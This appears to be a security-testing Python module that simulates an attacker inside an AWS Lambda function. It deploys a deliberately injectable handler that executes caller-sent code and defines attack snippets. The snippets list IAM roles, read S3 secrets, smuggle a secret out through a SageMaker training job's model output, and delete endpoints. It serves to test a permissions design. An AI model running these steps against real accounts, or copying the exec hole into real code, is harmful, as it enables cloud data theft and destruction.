"""The attack of docs/security-step.md: somebody who runs code inside a function has the function's role.

The pieces of code below run there, with the credentials that the function has.
"""

import io
import json
import time
import uuid
import zipfile
from collections.abc import Callable
from typing import Any

from local.home import LocalError

# What matters here of AmazonSageMakerFullAccess (v29 of 2026-02-12). The whole policy has 50 statements.
FULL_ACCESS: list[dict[str, Any]] = [
    {
        "Effect": "Allow",
        "Action": ["sagemaker:*"],
        "NotResource": [f"arn:aws:sagemaker:*:*:{kind}/*" for kind in ("domain", "user-profile", "app", "space")],
    },
    {
        "Effect": "Allow",
        "Action": ["iam:ListRoles", "ecr:BatchGetImage", "ecr:GetAuthorizationToken", "logs:CreateLogStream"],
        "Resource": "*",
    },
    {
        "Effect": "Allow",
        "Action": ["s3:GetObject", "s3:PutObject", "s3:DeleteObject"],
        "Resource": ["arn:aws:s3:::*SageMaker*", "arn:aws:s3:::*sagemaker*"],
    },
    {"Effect": "Allow", "Action": ["s3:CreateBucket", "s3:ListBucket", "s3:ListAllMyBuckets"], "Resource": "*"},
    {
        "Effect": "Allow",
        "Action": "iam:PassRole",
        "Resource": "arn:aws:iam::*:role/*",
        "Condition": {"StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}},
    },
]
EVERYTHING = {"Effect": "Allow", "Action": "*", "Resource": "*"}
# A function that runs what its caller sends, in place of a hole in its code or in a package.
HOLE = """
import boto3

def handler(event, context):
    names = {"boto3": boto3, "event": event}
    try:
        exec(event["code"], names)
    except Exception as error:
        return {"refused": str(error)}
    return {"done": names.get("result")}
"""
READ_IT = "result = boto3.client('s3').get_object(Bucket=event['bucket'], Key=event['key'])['Body'].read().decode()"
FIND_ROLES = "result = [role['RoleName'] for role in boto3.client('iam').list_roles()['Roles']]"
MAKE_BUCKET = """
s3 = boto3.client("s3")
s3.create_bucket(Bucket=event["bucket"])
s3.put_object(Bucket=event["bucket"], Key="code/launch.py", Body=event["program"].encode())
"""
# The job reads the secret with the role that it is given, and its model is the secret. Its program comes by a channel,
# or stands in the request.
START_JOB = """
def channel(name, uri):
    return {"ChannelName": name, "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": uri}}}

algorithm = {"TrainingImage": event["image"], "TrainingInputMode": "File"}
if "entrypoint" in event:
    algorithm["ContainerEntrypoint"] = event["entrypoint"]
channels = [channel("secret", event["secret_uri"])]
if "code_uri" in event:
    channels.append(channel("code", event["code_uri"]))
boto3.client("sagemaker").create_training_job(
    TrainingJobName=event["job"],
    RoleArn=event["role"],
    AlgorithmSpecification=algorithm,
    InputDataConfig=channels,
    OutputDataConfig={"S3OutputPath": event["output_uri"]},
    ResourceConfig={"InstanceCount": 1, "InstanceType": "ml.m5.large", "VolumeSizeInGB": 1},
    StoppingCondition={"MaxRuntimeInSeconds": 60},
)
"""
COPY = [
    *("python", "-c", "import shutil, sys; shutil.copytree(sys.argv[1], sys.argv[2], dirs_exist_ok=True)"),
    *("/opt/ml/input/data/secret", "/opt/ml/model"),
]
FETCH_MODEL = """
import io, tarfile
body = boto3.client("s3").get_object(Bucket=event["bucket"], Key=event["key"])["Body"].read()
with tarfile.open(fileobj=io.BytesIO(body)) as archive:
    result = archive.extractfile("2026.csv").read().decode()
"""
DELETE = "boto3.client('sagemaker').delete_endpoint(EndpointName=event['endpoint'])"
ASK = """
answer = boto3.client("sagemaker-runtime").invoke_endpoint(
    EndpointName=event["endpoint"], Body=b"photo", ContentType="image/jpeg"
)
result = answer["ResponseMetadata"]["HTTPStatusCode"]
"""
_START_SECONDS = 60


class Attacker:
    """Somebody who runs code inside a function.

    Args:
        client: makes a client of a service.
        role: ARN of the function's role.
        runtime: of the function.

    Raises:
        LocalError: the function did not start.
    """

    def __init__(self, client: Callable[[str], Any], role: str, runtime: str = "python3.11") -> None:
        self.role = role.rpartition("/")[2]
        self.function = f"classify-{uuid.uuid4().hex[:6]}"
        self._functions = client("lambda")
        code = io.BytesIO()
        with zipfile.ZipFile(code, "w") as archive:
            archive.writestr("hole.py", HOLE)
        settings = {"Runtime": runtime, "Handler": "hole.handler", "Timeout": 60}
        self._functions.create_function(
            FunctionName=self.function, Role=role, Code={"ZipFile": code.getvalue()}, **settings
        )
        deadline = time.monotonic() + _START_SECONDS
        while self._functions.get_function_configuration(FunctionName=self.function)["State"] != "Active":
            if time.monotonic() > deadline:
                raise LocalError(f"the function {self.function} was not active within {_START_SECONDS} s")
            time.sleep(0.05)

    def run(self, code: str, **event: Any) -> dict[str, Any]:
        """Run code in the function and return ``{"done": result}`` or ``{"refused": words}``."""
        answer = self._functions.invoke(
            FunctionName=self.function, Payload=json.dumps({"code": code, **event}).encode()
        )
        document: dict[str, Any] = json.loads(answer["Payload"].read())
        return document

    def leave(self) -> None:
        """Delete the function."""
        self._functions.delete_function(FunctionName=self.function)
